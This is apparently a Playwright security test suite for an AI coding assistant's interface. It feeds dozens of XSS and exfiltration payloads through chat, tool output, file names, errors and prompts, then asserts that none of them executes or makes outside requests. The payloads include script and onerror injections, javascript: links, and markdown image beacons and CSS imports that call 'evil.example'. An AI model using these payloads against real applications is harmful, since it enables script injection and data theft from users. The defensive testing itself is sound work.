import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Page } from '@playwright/test'
import { expect, say, test } from '../app'
import { callTool, card, lastAnswer, lineOf, refuse, scriptedWindow, think, words } from './scripted'
import { setMode, talk } from './shared'

const shown = scriptedWindow()

const MARK = 'window.pwned=1'
const HOST = 'https://evil.example'

/** Each has run a script or sent a request in some product that shows what models write. */
const CORPUS = [
  `<script>${MARK}</script>`,
  `<img src=x onerror="${MARK}">`,
  `<svg/onload=${MARK}>`,
  `<svg><script>${MARK}</script></svg>`,
  `<iframe srcdoc="<script>parent.${MARK}</script>"></iframe>`,
  `<iframe src="javascript:${MARK}"></iframe>`,
  `<body onload=${MARK}>`,
  `<details open ontoggle=${MARK}>x</details>`,
  `<input autofocus onfocus=${MARK}>`,
  `<a href="javascript:${MARK}">click</a>`,
  `<math><mi//xlink:href="data:x,<script>${MARK}</script>">`,
  `<form action="${HOST}"><button>send</button></form>`,
  `<style>@import url(${HOST}/a.css)</style>`,
  `<link rel=stylesheet href=${HOST}/b.css>`,
  `<meta http-equiv=refresh content="0;url=${HOST}">`,
  `<base href="${HOST}/">`,
  `<object data="${HOST}/o"></object><embed src="${HOST}/e">`,
  `<video><source onerror=${MARK} src=${HOST}/v></video>`,
  `<div style="background:url(${HOST}/bg.png)">x</div>`,
  `[click](javascript:${MARK})`,
  `[click](data:text/html,<script>${MARK}</script>)`,
  `[click](  java\u0001script:${MARK})`,
  `[a](x "onmouseover=${MARK}")`,
  `[ref][r]\n\n[r]: javascript:${MARK}`,
  `<javascript:${MARK}>`,
  `![pixel](${HOST}/p.png?secret=1)`,
  `![pixel](${HOST}/p.svg "t")`,
  `![svg](data:image/svg+xml,<svg onload="${MARK}"/>)`,
  `$\\href{javascript:${MARK}}{x}$ $\\htmlClass{a}{x}$ $\\includegraphics{${HOST}/m.png}$`,
  `$$\\url{javascript:${MARK}}$$`,
  `\`\`\`html\n<img src=x onerror=${MARK}>\n\`\`\``,
  `\`\`\`"onclick=${MARK}\ncode\n\`\`\``,
  `| <img src=x onerror=${MARK}> |\n|---|\n| <script>${MARK}</script> |`,
  `- [x] <img src=x onerror=${MARK}>`,
  `&lt;img src=x onerror=${MARK}&gt; &#60;script&#62;${MARK}&#60;/script&#62;`,
  `\u001b]8;;javascript:${MARK}\u0007link\u001b]8;;\u0007 \u001b[2J`,
  `{{constructor.constructor('${MARK}')()}} \${${MARK}}`,
]
const ALL = CORPUS.join('\n\n')

/** What must never happen, from now on. */
function guard(page: Page) {
  const seen: string[] = []
  page.on('dialog', (dialog) => {
    seen.push(`dialog ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('request', (request) => {
    if (!/^(app|data|blob|devtools):/.test(request.url())) seen.push(`request ${request.url()}`)
  })
  return async () => {
    const found = await page.evaluate(() => {
      const root = document.getElementById('root') ?? document.body
      const all = [...root.querySelectorAll('*')]
      const handlers = all.flatMap((one) =>
        [...one.attributes]
          .filter(({ name }) => name.startsWith('on'))
          .map(({ name }) => `${one.tagName} ${name}`),
      )
      const tags =
        'script, iframe, object, embed, link, meta, base, style, video, audio, source, frame, foreignObject'
      const elements = [...root.querySelectorAll(tags)].map(({ tagName }) => tagName)
      const links = [...root.querySelectorAll('[href], [src], [action], [data], [xlink\\:href]')]
        .flatMap((one) => ['href', 'src', 'action', 'data'].map((name) => one.getAttribute(name) ?? ''))
        .filter((url) => url !== '' && !/^(https?:\/\/|mailto:|data:image\/(png|jpeg|gif|webp);)/.test(url))
      const fetched = performance.getEntriesByType('resource').map(({ name }) => name)
      return {
        pwned: 'pwned' in window,
        handlers,
        elements,
        links,
        fetched: fetched.filter((url) => !url.startsWith('app:') && !url.startsWith('data:')),
      }
    })
    expect(found).toEqual({ pwned: false, handlers: [], elements: [], links: [], fetched: [] })
    expect(seen).toEqual([])
  }
}

test('in what the user and the model say', async () => {
  const { page, model } = shown
  const nothing = guard(page)
  model.script([think(ALL), words(...CORPUS.map((one) => `${one}\n\n`))])
  await say(page, ALL)
  await expect(lastAnswer(page)).toHaveAttribute('data-state', 'done')
  await expect(lastAnswer(page).locator('math').first()).toBeAttached()
  await lastAnswer(page).getByTestId('reasoning').getByRole('button').click()
  await nothing()
  await expect(lastAnswer(page)).toContainText(CORPUS[0] as string)
})

test('in what tools print and find, and in the names of files', async () => {
  const { page, model, workspace } = shown
  const nothing = guard(page)
  const name = '<img src=x onerror=window.pwned=1>.md'
  writeFileSync(join(workspace, name), ALL)
  writeFileSync(join(workspace, 'corpus.txt'), ALL)
  await setMode(page, 'Full access')
  model.script(
    [
      callTool('a', 'exec', { command: 'cat corpus.txt; cat corpus.txt >&2; exit 1' }),
      callTool('b', 'write', { path: `new ${name}`, content: ALL }),
    ],
    [callTool('c', 'read', { path: name }), callTool('d', 'grep', { pattern: 'pwned' })],
    [words('Done.')],
  )
  await talk(page, 'Run')
  await page.getByTestId('read-group').getByRole('button').first().click()
  for (const tool of ['write', 'read', 'grep']) await lineOf(card(page, tool)).click()
  await expect(card(page, 'write').getByTestId('diff')).toContainText('onerror')
  await expect(card(page, 'exec')).toContainText('<script>')
  await nothing()
})

test('in live output', async () => {
  const { page, model } = shown
  const nothing = guard(page)
  await setMode(page, 'Full access')
  model.script([callTool('a', 'exec', { command: 'cat corpus.txt; sleep 600' })])
  await say(page, 'Run')
  await expect(card(page, 'exec').getByTestId('terminal')).toContainText('constructor')
  await nothing()
  await page.getByTestId('stop').click()
  await expect(lastAnswer(page)).toHaveAttribute('data-state', 'stopped')
})

test('in titles, errors, questions and permissions', async () => {
  const { page, model } = shown
  const nothing = guard(page)
  model.script(refuse(400, { error: { message: ALL } }))
  await say(page, `<img src=x onerror=${MARK}>`)
  await expect(lastAnswer(page)).toHaveAttribute('data-state', 'error')
  await nothing()

  const options = CORPUS.slice(0, 6).map((label) => ({ label, description: label }))
  model.script(
    [callTool('a', 'question', { header: '<script>x</script>', question: ALL, options })],
    [callTool('b', 'exec', { command: `echo '<img src=x onerror=${MARK}>' > "<b>.txt"` })],
    [words('Done.')],
  )
  await say(page, 'Ask')
  await expect(page.getByTestId('question-prompt')).toContainText('<script>')
  await nothing()
  await page.getByTestId('question-option').first().click()
  await expect(page.getByTestId('permission-prompt')).toContainText('onerror')
  await nothing()
  await page.getByTestId('permission-deny').click()
  await expect(lastAnswer(page)).toHaveAttribute('data-state', 'done')
  await nothing()
})
